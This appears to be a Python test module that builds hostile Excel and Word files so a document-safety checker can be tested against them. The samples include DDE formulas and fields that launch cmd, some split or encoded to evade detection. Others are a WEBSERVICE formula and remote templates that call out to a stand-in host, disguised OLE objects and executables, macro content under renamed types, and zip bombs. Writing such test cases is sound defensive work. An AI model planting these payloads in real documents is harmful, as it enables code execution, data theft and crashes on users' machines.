"""Malicious Word and Excel documents of RELIABILITY.md R14: what they would run, link to or unfold."""

import random

from artel.files.tests import building as b
from artel.files.tests.hostile import SAFE, add, deflated, hostile, raw_zip, with_part, zeros

# --- Excel ----------------------------------------------------------------------------------------------------------

add("a cell in the last corner", "план.xlsx", lambda: b.xlsx(b.sheet(b.row(1048576, ("XFD1048576", "x")))), "rows")
add("a cell in the last column", "план.xlsx", lambda: b.xlsx(b.sheet(b.row(1, ("XFD1", "x")))), "columns")
add(
    "cells without addresses, too many columns",
    "план.xlsx",
    lambda: b.xlsx(b.sheet(f'<row r="1">{"<c/>" * 101}</row>')),
    "columns",
)


@hostile("800,000 sparse cells", "план.xlsx", "cells", "rows", "zip_ratio")
def sparse() -> bytes:
    rows = "".join(
        f"<row r='{n}'>" + "".join(f"<c r='{chr(65 + c)}{n}'><v>{n * c}</v></c>" for c in range(16)) + "</row>"
        for n in range(1, 50_001)
    )
    return b.xlsx(b.sheet(rows))


@hostile("20,001 rows", "план.xlsx", "rows")
def too_many_rows() -> bytes:
    return b.xlsx(b.sheet("".join(f'<row r="{n}"/>' for n in range(1, 20_002))))


@hostile("one long shared string shown 100,000 times", "план.xlsx", "shown_text")
def shared_strings() -> bytes:
    rng = random.Random(2)
    text = "".join(rng.choices("абвгдежзик", k=30_000))
    rows = "".join(
        f"<row r='{n}'>" + "".join(f"<c r='{chr(65 + c)}{n}' t='s'><v>0</v></c>" for c in range(10)) + "</row>"
        for n in range(1, 10_001)
    )
    parts = b.xlsx_parts(b.sheet(rows), links=(("sharedStrings", "sharedStrings.xml", False),))
    parts["xl/sharedStrings.xml"] = f'{b.HEAD}<sst xmlns="{b.SHEET}"><si><t>{text}</t></si></sst>'
    overrides = {
        "/xl/workbook.xml": f"{b.CONTENT_TYPES}.spreadsheetml.sheet.main+xml",
        "/xl/worksheets/sheet1.xml": f"{b.CONTENT_TYPES}.spreadsheetml.worksheet+xml",
        "/xl/sharedStrings.xml": f"{b.CONTENT_TYPES}.spreadsheetml.sharedStrings+xml",
    }
    return b.zipped(parts | {"[Content_Types].xml": b.types(overrides)})


add(
    "a link to another book",
    "план.xlsx",
    lambda: with_part("xl/externalLinks/externalLink1.xml", "<externalLink/>", b.xlsx_parts()),
    "external_link",
)
add(
    "a link to another book, by relation only",
    "план.xlsx",
    lambda: b.xlsx(links=(("externalLinkPath", "file:///c:/x.xlsx", True),)),
    "external_relationship",
)
add(
    "a formula that runs a program",
    "план.xlsx",
    lambda: b.xlsx(b.sheet("<row r='1'><c r='A1'><f>cmd|'/c calc'!A0</f></c></row>")),
    "dde",
)
add(
    "a name that runs a program",
    "план.xlsx",
    lambda: b.xlsx(names="<definedNames><definedName name='x'>cmd|'/c calc'!A0</definedName></definedNames>"),
    "dde",
)
add(
    "a DDE link",
    "план.xlsx",
    lambda: with_part(
        "xl/other.xml", f'<x xmlns="{b.SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></x>', b.xlsx_parts()
    ),
    "dde",
)
add(
    "a formula that calls home",
    "план.xlsx",
    lambda: b.xlsx(b.sheet("<row r='1'><c r='A1'><f>_xlfn.WEBSERVICE(\"http://192.0.2.1/\"&amp;A2)</f></c></row>")),
    "dde",
)
add(
    "formulas that only count",
    "план.xlsx",
    lambda: b.xlsx(b.sheet("<row r='1'><c r='A1'><f>SUM(B1:B9)</f><v>3</v></c></row>")),
    SAFE,
)
add(
    "a thousand sheets",
    "план.xlsx",
    lambda: b.xlsx(*([b.sheet(b.row(1, ("A1", "x")))] * 1000)),
    "sheets",
    "zip_members",
)
add(
    "names that call each other",
    "план.xlsx",
    lambda: b.xlsx(
        names="<definedNames><definedName name='a'>b</definedName><definedName name='b'>a</definedName></definedNames>"
    ),
    SAFE,
)
add(
    "a merged cell the size of the sheet",
    "план.xlsx",
    lambda: b.xlsx(b.sheet(b.row(1, ("A1", "x")), '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
    "merged_cells",
)
add(
    "a link over the whole sheet",
    "план.xlsx",
    lambda: b.xlsx(b.sheet(b.row(1, ("A1", "x")), '<hyperlinks><hyperlink ref="A1:XFD1048576"/></hyperlinks>')),
    "merged_cells",
)
add(
    "a connection to a database",
    "план.xlsx",
    lambda: with_part("xl/connections.xml", "<connections/>", b.xlsx_parts()),
    "external_link",
)
add(
    "a sheet that calls itself small",
    "план.xlsx",
    lambda: b.xlsx(
        b.sheet(b.row(1, ("A1", "x")) + b.row(30_000, ("A30000", "x"))).replace(
            "<sheetData>", '<dimension ref="A1"/><sheetData>'
        )
    ),
    "rows",
)


def as_type(parts: b.Parts, old: str, new: str) -> bytes:
    types = str(parts["[Content_Types].xml"])
    assert old in types
    return b.zipped(parts | {"[Content_Types].xml": types.replace(old, new)})


WORD_MAIN = f"{b.CONTENT_TYPES}.wordprocessingml.document.main+xml"
EXCEL_MAIN = f"{b.CONTENT_TYPES}.spreadsheetml.sheet.main+xml"
add(
    "a macro book renamed",
    "план.xlsx",
    lambda: as_type(b.xlsx_parts(), EXCEL_MAIN, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "macros",
)
add(
    "a binary book renamed",
    "план.xlsx",
    lambda: as_type(b.xlsx_parts(), EXCEL_MAIN, "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    "macros",
)
add(
    "a macro sheet of 1992",
    "план.xlsx",
    lambda: as_type(
        b.xlsx_parts(), f"{b.CONTENT_TYPES}.spreadsheetml.worksheet+xml", "application/vnd.ms-excel.macrosheet+xml"
    ),
    "macros",
)

# --- Word -----------------------------------------------------------------------------------------------------------

add(
    "a macro document renamed",
    "план.docx",
    lambda: as_type(b.docx_parts(), WORD_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "macros",
)
add(
    "macros under an innocent type",
    "план.docx",
    lambda: with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500)),
    "macros",
)
add(
    "macros by relation only", "план.docx", lambda: b.docx(links=(("vbaProject", "media/image1.bin", False),)), "macros"
)
add("a piece of another file", "план.docx", lambda: b.docx('<w:altChunk r:id="rId1"/>'), "alt_chunk")
add(
    "a piece of another file, by relation",
    "план.docx",
    lambda: b.docx(links=(("aFChunk", "chunk.bin", False),)),
    "alt_chunk",
)
add("a piece of HTML", "план.docx", lambda: with_part("word/chunk.html", "<script>alert(1)</script>"), "ooxml_html")
add(
    "a template from outside",
    "план.docx",
    lambda: b.docx(links=(("attachedTemplate", "http://192.0.2.1/t.dotm", True),)),
    "remote_template",
)
add(
    "a template on a share",
    "план.docx",
    lambda: b.docx(links=(("attachedTemplate", "file:///\\\\192.0.2.1\\share\\t.dotm", True),)),
    "remote_template",
)
add(
    "a picture from outside",
    "план.docx",
    lambda: b.docx(links=(("image", "\\\\192.0.2.1\\share\\x.png", True),)),
    "external_relationship",
)
add(
    "an outside target that calls itself inside",
    "план.docx",
    lambda: b.docx(links=(("image", "file://192.0.2.1/x.png", False),)),
    "external_relationship",
)
add(
    "a frame from outside",
    "план.docx",
    lambda: b.docx(links=(("frame", "http://192.0.2.1/", True),)),
    "external_relationship",
)
add(
    "an OLE object",
    "план.docx",
    lambda: with_part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + bytes(500)),
    "ole",
)
add(
    "an OLE object called a picture",
    "план.docx",
    lambda: with_part("word/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)),
    "embedded_file",
)
add(
    "a program called a picture",
    "план.docx",
    lambda: with_part("word/media/image1.png", b"MZ" + bytes(500)),
    "embedded_file",
)
add("an ActiveX control", "план.docx", lambda: with_part("word/activeX/activeX1.xml", "<ocx/>"), "macros")


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return f"<w:p>{begin}{runs}{end}</w:p>"


add("a field that runs a program", "план.docx", lambda: b.docx(field("DDEAUTO c:\\windows\\system32\\cmd.exe")), "dde")
add("such a field in pieces", "план.docx", lambda: b.docx(field(" D", "DE", "AU", "TO cmd")), "dde")
add("such a field in one element", "план.docx", lambda: b.docx('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'), "dde")
add("such a field in figures", "план.docx", lambda: b.docx(field("QUOTE 68 68 69 65 85 84 79 32 99")), "dde")
add(
    "such a field under another prefix",
    "план.docx",
    lambda: with_part(
        "word/document.xml",
        f'{b.HEAD}<z:document xmlns:z="{b.WORD}"><z:body><z:p><z:fldSimple z:instr="DDEAUTO cmd"/></z:p></z:body>'
        "</z:document>",
    ),
    "dde",
)
add("a field that includes a file", "план.docx", lambda: b.docx(field("INCLUDETEXT c:\\secret.docx")), "dde")


@hostile("three hundred megabytes of text", "план.docx", "zip_total", "zip_ratio")
def long_text() -> bytes:
    parts = b.docx_parts()
    entries = [
        (name.encode(), *deflated(str(content).encode()))
        for name, content in parts.items()
        if name != "word/document.xml"
    ]
    return raw_zip([*entries, (b"word/document.xml", zeros(300), 300 << 20, 0)])


@hostile("fifty megabytes of text that hardly packs", "план.docx", "xml_size")
def long_rare_text() -> bytes:
    four_letters = bytes(97 + at % 4 for at in range(256))
    text = random.Random(3).randbytes(24_000_000).translate(four_letters).decode() * 2
    return b.zipped(b.docx_parts(b.paragraph(text)), level=1)


add(
    "two main parts",
    "план.docx",
    lambda: as_type(
        b.docx_parts(), "</Types>", f'<Override PartName="/xl/workbook.xml" ContentType="{EXCEL_MAIN}"/></Types>'
    ),
    "ooxml_two_mains",
)
add(
    "no main part",
    "план.docx",
    lambda: b.zipped({name: content for name, content in b.docx_parts().items() if name != "word/document.xml"}),
    "ooxml_no_main",
)
add(
    "a template",
    "план.dotx",
    lambda: as_type(b.docx_parts(), WORD_MAIN, f"{b.CONTENT_TYPES}.wordprocessingml.template.main+xml"),
    "template",
)
